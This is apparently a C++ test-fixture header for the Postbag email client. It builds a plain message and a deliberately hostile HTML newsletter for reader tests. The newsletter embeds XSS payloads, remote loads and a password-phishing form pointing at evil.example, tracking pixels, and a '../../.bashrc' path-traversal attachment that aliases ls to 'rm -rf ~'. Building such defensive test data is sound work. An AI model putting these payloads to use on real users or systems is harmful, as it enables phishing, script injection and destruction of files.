// SPDX-FileCopyrightText: 2026 The Postbag authors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include "core/store/StoreTypes.h"

#include <QBuffer>
#include <QByteArray>
#include <QImage>
#include <QPainter>

// Raw test messages for the reader: plain text with links and quotes, and a hostile HTML
// newsletter with an inline cid: logo and an attachment named "../../.bashrc".
namespace postbag::ui::test {

inline QByteArray pngLogo()
{
    QImage img(64, 32, QImage::Format_ARGB32);
    img.fill(QColor(0x2f, 0x6f, 0xa8));
    QPainter p(&img);
    p.fillRect(8, 8, 16, 16, Qt::white);
    p.end();
    QByteArray png;
    QBuffer buffer(&png);
    buffer.open(QIODevice::WriteOnly);
    img.save(&buffer, "PNG");
    return png;
}

inline QByteArray base64Lines(const QByteArray& data)
{
    const QByteArray b64 = data.toBase64();
    QByteArray out;
    for (qsizetype i = 0; i < b64.size(); i += 76) {
        out += b64.mid(i, 76) + "\r\n";
    }
    return out;
}

inline QByteArray plainMessage()
{
    return "From: Alice Example <alice@example.org>\r\n"
           "To: Bob <bob@example.net>, carol@example.net\r\n"
           "Cc: Dave <dave@example.com>\r\n"
           "Subject: Re: Trip to Lisbon\r\n"
           "Date: Tue, 12 May 2026 09:41:00 +0200\r\n"
           "Message-ID: <plain-1@example.org>\r\n"
           "MIME-Version: 1.0\r\n"
           "Content-Type: text/plain; charset=utf-8\r\n\r\n"
           "Hi Bob,\r\n\r\n"
           "the tickets are booked, see https://example.org/trips/lisbon?id=42 (details inside).\r\n"
           "Write to travel@example.org or look at www.example.com/faq.\r\n"
           "<b>This is not markup</b> & neither is this <script>alert(1)</script>.\r\n\r\n"
           "Cheers,\r\nAlice\r\n\r\n"
           "> Are we still going to Lisbon?\r\n"
           "> > Only if the weather is good.\r\n";
}

inline QByteArray hostileHtmlMessage()
{
    const QByteArray html =
        "<html><head><meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">"
        "<base href=\"http://evil.example/\"><link rel=stylesheet href=\"http://evil.example/s.css\">"
        "<style>@import url(http://evil.example/i.css); h1 { color: #2f6fa8; }</style>"
        "<script>document.write('pwned')</script></head>"
        "<body onload=\"steal()\" style=\"background:url(http://tracker.example/bg.png)\">"
        "<p><img src=\"cid:logo@postbag.test\" width=64 height=32 alt=\"Logo\"></p>"
        "<h1>Spring newsletter</h1>"
        "<p>Hello! Our <a href=\"https://shop.example/sale\">spring sale</a> starts today.</p>"
        "<p><img src=\"http://tracker.example/pixel.gif\" width=1 height=1 onerror=\"alert(1)\">"
        "<img src=\"https://images.example/hero.jpg\" width=\"300\" height=\"120\" alt=\"Hero\"></p>"
        "<p><a href=\"javascript:alert(2)\">Unsubscribe</a></p>"
        "<form action=\"http://evil.example/login\"><input name=password type=password></form>"
        "<iframe src=\"http://evil.example/frame\"></iframe>"
        "<svg><script>alert(3)</script></svg>"
        "</body></html>";
    return "From: Shop <news@shop.example>\r\n"
           "To: bob@example.net\r\n"
           "Subject: Spring newsletter\r\n"
           "Date: Wed, 13 May 2026 08:00:00 +0000\r\n"
           "Message-ID: <html-1@shop.example>\r\n"
           "MIME-Version: 1.0\r\n"
           "Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n"
           "--outer\r\n"
           "Content-Type: multipart/related; boundary=\"rel\"\r\n\r\n"
           "--rel\r\n"
           "Content-Type: text/html; charset=utf-8\r\n\r\n" +
           html +
           "\r\n--rel\r\n"
           "Content-Type: image/png\r\n"
           "Content-ID: <logo@postbag.test>\r\n"
           "Content-Disposition: inline\r\n"
           "Content-Transfer-Encoding: base64\r\n\r\n" +
           base64Lines(pngLogo()) +
           "--rel--\r\n"
           "--outer\r\n"
           "Content-Type: text/plain; name=\"../../.bashrc\"\r\n"
           "Content-Disposition: attachment; filename=\"../../.bashrc\"\r\n\r\n"
           "alias ls='rm -rf ~'\r\n"
           "--outer--\r\n";
}

inline store::MessageSummary summaryFor(qint64 id, bool headersOnly = false)
{
    store::MessageSummary s;
    s.id = id;
    s.headersOnly = headersOnly;
    s.receivedAt = QDateTime(QDate(2026, 5, 13), QTime(8, 1), Qt::UTC);
    return s;
}

} // namespace postbag::ui::test
